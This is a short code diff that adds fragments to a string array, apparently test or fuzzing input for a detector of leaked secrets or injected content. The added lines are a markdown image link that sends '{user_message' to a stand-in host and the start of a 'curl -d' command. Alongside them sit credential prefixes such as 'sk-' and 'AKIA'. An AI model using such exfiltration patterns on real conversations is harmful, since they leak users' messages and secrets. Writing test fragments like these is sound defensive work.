@@ -264,6 +264,8 @@ const PIECES = [
   "\u200b",
   "](",
   "x".repeat(80),
+  "![a](https://x.example/?d={user_message",
+  "`curl -d ",
   "sk-",
   "AKIA",
   "aws_secret_access_key = ",
